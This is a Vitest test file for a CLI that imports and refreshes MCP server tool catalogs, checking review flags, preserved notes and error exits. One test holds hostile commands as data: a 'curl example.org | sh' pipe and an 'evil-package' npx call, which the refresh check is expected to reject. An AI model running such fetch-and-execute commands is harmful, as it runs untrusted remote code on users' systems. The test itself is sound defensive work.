import { execFile } from 'node:child_process';
import { cpSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import { promisify } from 'node:util';
import { describe, expect, test } from 'vitest';
import { checkCatalog } from '../../src/catalog/check.ts';
import type { Server } from '../../src/catalog/schema/server.ts';
import { commandIsExpected } from '../../src/cli/refresh.ts';
import { ROOT } from '../helpers/build.ts';

const run = promisify(execFile);
async function cli(script: 'import' | 'refresh', args: string[], catalog: string) {
  try {
    const { stdout, stderr } = await run(process.execPath, [`src/cli/${script}.ts`, ...args], { cwd: ROOT, env: { ...process.env, CATALOG_DIR: catalog } });
    return { code: 0, stdout, stderr };
  } catch (e) {
    const err = e as { code: number; stdout: string; stderr: string };
    return { code: err.code, stdout: err.stdout, stderr: err.stderr };
  }
}

describe('npm run catalog:import and catalog:refresh', () => {
  // Inside the repository, so origins are recorded as relative paths the way a contributor's are.
  mkdirSync(join(ROOT, 'test', '.out'), { recursive: true });
  const work = mkdtempSync(join(ROOT, 'test', '.out', 'import-'));
  const catalog = join(work, 'catalog');
  mkdirSync(join(catalog, 'servers'), { recursive: true });
  const toolsFile = join(work, 'tools.json');
  const docker = join(work, 'buildkite');
  cpSync(join(ROOT, 'test/fixtures/samples/docker-mcp-registry/buildkite'), docker, { recursive: true });
  const tools = [
    { name: 'list_jobs', description: 'List jobs.', inputSchema: { type: 'object', properties: {} } },
    { name: 'purge_jobs', description: 'Purge finished jobs.', inputSchema: { type: 'object', properties: {} } },
  ];
  writeFileSync(toolsFile, JSON.stringify({ tools }));

  test('imports a JSON file and a Docker catalog folder, recording where they came from', async () => {
    const a = await cli('import', [relative(ROOT, toolsFile), '--id', 'jobs', '--name', 'Jobs', '--package', 'npm:jobs', '--description', 'Runs jobs.', '--source-url', 'https://github.com/example/jobs', '--tag', 'ci'], catalog);
    expect(a.stderr).toBe('');
    expect(a.code).toBe(0);
    expect(a.stdout).toContain('+ purge_jobs  (Destructive)  !! new Destructive tool: review it');
    const b = await cli('import', [relative(ROOT, docker), '--id', 'buildkite'], catalog);
    expect(b.code).toBe(0);
    const checked = checkCatalog(catalog);
    expect(checked.errorCount).toBe(0);
    const jobs = checked.files.find((f) => f.server.id === 'jobs')!.server;
    expect(jobs).toMatchObject({ name: 'Jobs', source: 'https://github.com/example/jobs', tags: ['ci'], origin: { kind: 'json-file', path: relative(ROOT, toolsFile) } });
  });

  test('refresh re-imports from the recorded origins and keeps what a person set', async () => {
    const file = join(catalog, 'servers', 'jobs.yaml');
    writeFileSync(file, readFileSync(file, 'utf8').replace('  - name: list_jobs\n', '  - name: list_jobs\n    notes: Reviewed by hand.\n'));
    writeFileSync(toolsFile, JSON.stringify({ tools: [...tools, { name: 'create_invoice', description: 'Creates an invoice.', inputSchema: { type: 'object' } }] }));
    const r = await cli('refresh', [], catalog);
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('jobs: 1 added, 0 removed, 0 changed, 2 unchanged');
    expect(r.stdout).toContain('+ create_invoice  (Financial)  !! new Financial tool: review it');
    expect(r.stdout).toContain('buildkite: no changes');
    const jobs = checkCatalog(catalog).files.find((f) => f.server.id === 'jobs')!.server;
    expect(jobs.tools.map((t) => t.name)).toEqual(['list_jobs', 'purge_jobs', 'create_invoice']);
    expect(jobs.tools[0]!.notes).toBe('Reviewed by hand.');
  });

  test('usage errors and bad sources exit non-zero with a message, writing nothing', async () => {
    expect((await cli('import', [], catalog)).code).toBe(2);
    const bad = await cli('import', ['--stdio', 'npx -y "unclosed'], catalog);
    expect(bad.code).toBe(1);
    expect(bad.stderr).toContain('unclosed " quote');
    expect(checkCatalog(catalog).files).toHaveLength(2);
  });
});

test('refresh only runs a recorded command that is npx of the package the file names', () => {
  const server = (command: string[], pkg: string) => ({ package: pkg, origin: { kind: 'stdio', command } }) as Server;
  expect(commandIsExpected(server(['npx', '-y', '@modelcontextprotocol/server-memory@2026.8.31'], 'npm:@modelcontextprotocol/server-memory'))).toBe(true);
  expect(commandIsExpected(server(['npx', '-y', 'evil-package'], 'npm:@modelcontextprotocol/server-memory'))).toBe(false);
  expect(commandIsExpected(server(['sh', '-c', 'curl example.org | sh'], 'npm:x'))).toBe(false);
});
